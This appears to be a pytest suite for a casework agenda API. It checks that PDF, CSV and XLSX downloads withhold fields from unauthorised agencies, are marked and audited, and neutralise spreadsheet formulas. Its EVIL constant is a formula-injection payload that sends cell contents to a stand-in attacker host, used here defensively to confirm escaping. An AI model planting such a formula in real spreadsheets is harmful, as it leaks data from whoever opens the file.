"""The agenda API and its downloads: one sharing filter for JSON, PDF, CSV and XLSX, each file
marked and naming its recipient, spreadsheet cells inert, every download audited."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from flask.testing import FlaskClient

from casework.meetings import agenda, agenda_export
from casework.meetings.agenda_view import agenda_for
from casework.meetings.models import Meeting
from tests.conftest import Factory, bearer
from tests.meetings.agenda_setup import TODAY, Partnership, partnership

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Values the housing representative may never receive on an agenda (marac.toml).
HIDDEN_FROM_HOUSING = ("07700 900000", "AN1 1AA", "1 High Street", "Private narrative", EVIL)


@pytest.fixture()
def p(factory: Factory) -> Partnership:
    return partnership(factory)


@pytest.fixture()
def tokens(p: Partnership) -> dict[str, str]:
    """Made before any request: a request ends the session the test's objects live in."""
    return {name: p.factory.token(user) for name, user in p.users.items()}


def _published(p: Partnership, cases: int = 2, **changes: object) -> Meeting:
    meeting = p.meeting()
    for _ in range(cases):
        p.refer(summary="Private narrative", **changes)
    agenda.build_draft(p.svc, meeting)
    agenda.publish_agenda(p.svc, p.actor("coordinator"), meeting.id)
    p.svc.session.commit()
    return meeting


def _get(client: FlaskClient, tokens: dict, who: str, meeting_id: str, fmt: str = "") -> object:
    """A request commits and ends the session, so tests keep ids rather than objects."""
    headers = bearer(tokens[who])
    query = f"?format={fmt}" if fmt else ""
    return client.get(f"/api/v1/meetings/{meeting_id}/agenda{query}", headers=headers)


def test_the_api_answers_the_agenda_as_the_contract_shows(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = _published(p)

    mid = str(meeting.id)
    answer = _get(client, tokens, "housing", mid)

    assert answer.status_code == 200
    body = answer.json
    assert body["meeting"]["id"] == str(meeting.id) and body["meeting"]["start_time"] == "10:00"
    first = body["items"][0]
    assert {"position": 1, "start_time": "10:00", "kind": "referral"}.items() <= first.items()
    assert first["referral_id"] and first["victim"]["first_name"] == "Jane"
    assert "phone" not in first["victim"] and "dash" not in first["risk"]


def test_outsiders_and_unknown_meetings_get_404_in_every_format(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = _published(p, cases=1)
    mid = str(meeting.id)
    for fmt in ("", "pdf", "csv", "xlsx"):
        answer = _get(client, tokens, "outsider", mid, fmt)
        assert answer.status_code == 404, fmt
        assert answer.json == {"error": {"code": "not_found", "message": "Not found"}}
    assert _get(client, tokens, "analyst", mid).status_code == 403
    assert _get(client, tokens, "housing", mid, "docx").status_code == 422


def test_a_draft_is_downloadable_by_the_coordinator_only(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = p.meeting()
    p.refer()
    agenda.build_draft(p.svc, meeting)
    p.svc.session.commit()
    mid = str(meeting.id)
    assert _get(client, tokens, "housing", mid, "csv").status_code == 404
    answer = _get(client, tokens, "coordinator", mid, "csv")
    assert answer.status_code == 200 and "DRAFT" in answer.text
    assert answer.headers["Content-Disposition"].endswith('-draft.csv"')


def _text_of_pdf(data: bytes) -> list[str]:
    from pypdf import PdfReader

    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


def test_pdf_is_marked_on_every_page_and_holds_only_what_housing_may_see(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = _published(p, cases=14)  # long enough for several pages
    day = meeting.starts_at.date()

    mid = str(meeting.id)
    answer = _get(client, tokens, "housing", mid, "pdf")

    assert answer.status_code == 200 and answer.mimetype == "application/pdf"
    disposition = answer.headers["Content-Disposition"]
    assert disposition == f'attachment; filename="agenda-northshire-marac-{day}-v1.pdf"'
    pages = _text_of_pdf(answer.data)
    assert len(pages) > 1
    for text in pages:
        assert "OFFICIAL-SENSITIVE" in text and "HSG & partners (HSG)" in text
    whole = "\n".join(pages)
    assert "Jane" in whole and "Roe" in whole and "Sam" in whole
    for value in HIDDEN_FROM_HOUSING:
        assert value not in whole


def test_pdf_input_for_police_carries_what_police_may_see(p: Partnership) -> None:
    meeting = _published(p, cases=1)
    shown = agenda_for(p.svc, p.actor("referrer"), meeting.id, verb="export", fmt="pdf")
    html = agenda_export.pdf_html(shown)
    assert "07700 900000" in html and "Private narrative" in html
    assert "POL &amp; partners (POL)" in html


def test_csv_has_a_marked_first_row_and_no_column_housing_may_not_see(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = _published(p)

    mid = str(meeting.id)
    answer = _get(client, tokens, "housing", mid, "csv")

    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"].endswith('-v1.csv"')
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))))
    assert rows[0][0].startswith("# OFFICIAL-SENSITIVE") and "(HSG)" in rows[0][0]
    header = rows[2]
    assert "Victim first name" in header and "Children" in header and "Risk band" in header
    assert not {"Phone", "Address", "Summary", "DASH questions answered yes"} & set(header)
    assert len(rows) == 3 + 2
    for value in HIDDEN_FROM_HOUSING:
        assert value not in answer.text


def test_csv_and_xlsx_cells_cannot_run_formulas(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    from openpyxl import load_workbook

    meeting = p.meeting()
    p.refer(summary=EVIL)
    agenda.build_draft(p.svc, meeting)
    agenda.publish_agenda(p.svc, p.actor("coordinator"), meeting.id)
    p.svc.session.commit()

    mid = str(meeting.id)
    text = _get(client, tokens, "coordinator", mid, "csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    summary = rows[3][rows[2].index("Summary")]
    assert summary == "'" + EVIL

    book = load_workbook(io.BytesIO(_get(client, tokens, "coordinator", mid, "xlsx").data))
    sheet = book["Agenda"]
    header = [c.value for c in sheet[3]]
    cell = sheet.cell(row=4, column=header.index("Summary") + 1)
    assert cell.value == "'" + EVIL and cell.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_xlsx_names_the_recipient_in_header_footer_and_top_row(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    from openpyxl import load_workbook

    meeting = _published(p)

    mid = str(meeting.id)
    answer = _get(client, tokens, "housing", mid, "xlsx")

    assert answer.headers["Content-Disposition"].endswith('-v1.xlsx"')
    sheet = load_workbook(io.BytesIO(answer.data))["Agenda"]
    assert sheet["A1"].value.startswith("OFFICIAL-SENSITIVE") and "(HSG)" in sheet["A1"].value
    assert sheet.oddHeader.left.text == "OFFICIAL-SENSITIVE"
    assert sheet.oddHeader.right.text.endswith("HSG && partners (HSG) only")
    assert sheet.oddFooter.left.text == "OFFICIAL-SENSITIVE"
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert "Phone" not in values
    for value in HIDDEN_FROM_HOUSING:
        assert not any(value in v for v in values)


def test_each_download_is_audited_as_an_export_to_the_callers_agency(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = _published(p)
    cases = [str(i.referral_id) for i in agenda.items_of(p.svc, meeting)]

    mid = str(meeting.id)
    for fmt in ("pdf", "csv", "xlsx"):
        assert _get(client, tokens, "housing", mid, fmt).status_code == 200

    exports = [e for e in p.audits("export", "referral") if e.agency_code == "HSG"]
    assert sorted(e.record_id for e in exports) == sorted(cases * 3)
    assert {e.recipient_agency for e in exports} == {"HSG"}
    assert {e.purpose for e in exports} == {f"meeting agenda ({f})" for f in ("pdf", "csv", "xlsx")}
    assert all("victim.phone" not in e.fields and "victim.first_name" in e.fields for e in exports)
    disclosures = p.audits("disclose", "agenda")
    assert [(d.record_id, d.recipient_agency) for d in disclosures] == [(mid, "HSG")] * 3


def test_an_agency_sees_no_file_once_the_window_after_the_meeting_closes(
    client: FlaskClient, p: Partnership, tokens: dict
) -> None:
    meeting = p.meeting(day=TODAY - timedelta(days=40))
    p.refer()
    agenda.build_draft(p.svc, meeting)
    agenda.publish_agenda(p.svc, p.actor("coordinator"), meeting.id)
    p.svc.session.commit()

    mid = str(meeting.id)
    rows = list(csv.reader(io.StringIO(_get(client, tokens, "housing", mid, "csv").text)))

    assert len(rows) == 3  # marking, title and header: no case
